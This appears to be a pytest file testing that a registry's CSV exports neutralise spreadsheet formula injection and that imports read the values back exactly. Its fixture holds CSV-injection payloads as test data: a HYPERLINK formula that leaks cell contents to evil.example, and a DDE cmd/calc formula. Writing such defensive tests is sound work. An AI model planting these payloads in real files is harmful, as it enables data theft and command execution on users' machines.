"""CSV exports that cannot attack a spreadsheet, and imports that read back what they wrote.

Through the real ways out and in: the public download over HTTP, `registry export` and
`registry import` as processes.
"""

import csv
import io
import os
import subprocess
import sys

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlmodel import Session, select

from registry import create_app
from registry.cli._common import prepare_database
from registry.db import get_engine, make_engine
from registry.entries.schemas import CSV_COLUMNS, ResourceCreate
from registry.entries.services import create_resource, snapshot
from registry.exchange import cells
from registry.models import Resource
from tests.exchange.test_exchange import ensure_importer

# What Excel and LibreOffice take as the start of a formula (OWASP, "CSV Injection").
SPREADSHEET_FORMULA = ("=", "+", "-", "@", "\t", "\r")

# Entries as a team might have written them: every field that a spreadsheet would run.
HOSTILE = [
    {"name": '=HYPERLINK("https://evil.example/?"&A1,"Click")', "url": "https://one.example/",
     "kind": "app", "provider": "+Mind", "description": "-2+3 a dash at the start",
     "phone_numbers": "+1 988", "evidence": "@SUM(1+1)*cmd|' /C calc'!A0",
     "source": "'already quoted"},
    {"name": "-Minus Forum", "url": "https://two.example/", "kind": "forum",
     "provider": "@handle", "description": "=1+1", "phone_numbers": "+1 988;116 123"},
    {"name": "@At Helpline", "url": "https://three.example/", "kind": "helpline",
     "description": "+ plus first", "phone_numbers": "+61 13 11 14"},
    {"name": "+Plus Website", "url": "https://four.example/", "kind": "website",
     "description": "\uff1dfull-width equals"},
]  # fmt: skip
# Only a statement that goes round validation can store these (it trims every value).
RAW_NAMES = {"https://five.example/": "\tTabbed Line", "https://six.example/": "\rReturn Line"}


@pytest.fixture
def empty_url(another_database_url):
    """The URL of a second registry, migrated and empty."""
    app = create_app({"TESTING": True, "DATABASE_URL": another_database_url, "SECRET_KEY": "x"})
    prepare_database(app, seed=False)
    return another_database_url


@pytest.fixture
def hostile(app):
    """The registry with the hostile entries, every one recommended (in the public download)."""
    with Session(get_engine(app)) as session:
        rows = [dict(row) for row in HOSTILE]
        rows += [{"name": "Placeholder", "url": url, "kind": "website"} for url in RAW_NAMES]
        for row in rows:
            entry = create_resource(
                session, data=ResourceCreate.model_validate(row), actor_label="test"
            )
            entry.state = entry.decision = "recommended"
            entry.name = RAW_NAMES.get(entry.url, entry.name)
            session.add(entry)
        session.commit()
    return app


def registry(database_url: str, *args: str) -> subprocess.CompletedProcess:
    """Run `registry ARGS` in its own process, as an administrator would."""
    env = {**os.environ, "DATABASE_URL": database_url, "SECRET_KEY": "test-secret"}
    return subprocess.run(
        [sys.executable, "-m", "registry.cli", *args],
        env=env, capture_output=True, text=True, timeout=120, check=False,
    )  # fmt: skip


def cells_of(text: str) -> list[dict[str, str]]:
    """Read a CSV as a spreadsheet would: each row's cells by column."""
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def assert_opens_as_text(rows: list[dict[str, str]]) -> None:
    for row in rows:
        for column, cell in row.items():
            assert not cell.lstrip(" ").startswith(SPREADSHEET_FORMULA), (column, cell)


def test_the_public_download_opens_as_text_in_a_spreadsheet(hostile):
    response = hostile.test_client().get("/export.csv")

    assert response.status_code == 200
    assert response.headers["Content-Disposition"] == 'attachment; filename="registry.csv"'
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    rows = {row["url"]: row for row in cells_of(response.get_data(as_text=True))}
    assert_opens_as_text(list(rows.values()))
    first, second = rows["https://one.example/"], rows["https://two.example/"]
    assert first["name"] == "'" + HOSTILE[0]["name"]
    assert (first["provider"], first["description"]) == ("'+Mind", "'-2+3 a dash at the start")
    assert first["phone_numbers"] == "'+1 988"
    assert first["evidence"].startswith("'@SUM")
    assert first["source"] == "''already quoted"  # the mark doubled, so import can undo it
    assert (second["name"], second["provider"]) == ("'-Minus Forum", "'@handle")
    assert rows["https://four.example/"]["description"] == "'\uff1dfull-width equals"
    assert rows["https://five.example/"]["name"] == "'\tTabbed Line"
    assert rows["https://six.example/"]["name"] == "'\rReturn Line"
    assert rows["https://three.example/"]["kind"] == "helpline"  # harmless cells as they were


@pytest.mark.parametrize("path", ["/export.json", "/export.hsds.json", "/export.csv?all=1"])
def test_every_download_is_an_attachment_that_is_never_sniffed(hostile, as_role, path):
    response = as_role("admin").get(path)
    assert response.status_code == 200
    assert response.headers["Content-Disposition"].startswith("attachment; filename=")
    assert response.headers["X-Content-Type-Options"] == "nosniff"


def test_importing_the_export_gives_back_the_original_values(hostile, empty_url, as_role, tmp_path):
    source_url = hostile.config["DATABASE_URL"]
    exported = registry(source_url, "export", "--output", str(tmp_path / "registry.csv"))
    assert exported.returncode == 0, exported.stderr
    written = (tmp_path / "registry.csv").read_bytes().decode("utf-8")
    assert written == as_role("admin").get("/export.csv?all=1").get_data(as_text=True)
    assert_opens_as_text(cells_of(written))

    ensure_importer(empty_url)
    imported = registry(
        empty_url, "import", "--as", "importer@example.org", str(tmp_path / "registry.csv")
    )
    assert imported.returncode == 0, imported.stdout + imported.stderr
    assert "0 rejected" in imported.stdout

    copies = facts_by_url(make_engine(empty_url))
    originals = facts_by_url(get_engine(hostile))
    assert set(copies) == set(originals)
    for url in RAW_NAMES:
        # Every way in trims surrounding space, an import too: the tab or carriage return was
        # never part of the name the registry keeps.
        originals[url]["name"] = originals[url]["name"].strip()
    assert copies == originals
    assert copies["https://one.example/"]["phone_numbers"] == ["+1 988"]
    assert copies["https://two.example/"]["phone_numbers"] == ["+1 988", "116 123"]
    assert copies["https://one.example/"]["source"] == "'already quoted"


def facts_by_url(engine) -> dict[str, dict]:
    """Return each entry's CSV fields by its address."""
    with Session(engine) as session:
        entries = session.exec(select(Resource)).all()
        return {r.url: {k: v for k, v in snapshot(r).items() if k in CSV_COLUMNS} for r in entries}


@given(st.text(max_size=30))
def test_neutralising_a_cell_is_undone_exactly_by_reading_it(value):
    cell = cells.neutralise(value)
    assert not cell.lstrip(" ").startswith(SPREADSHEET_FORMULA)
    assert cells.restore(cell) == value
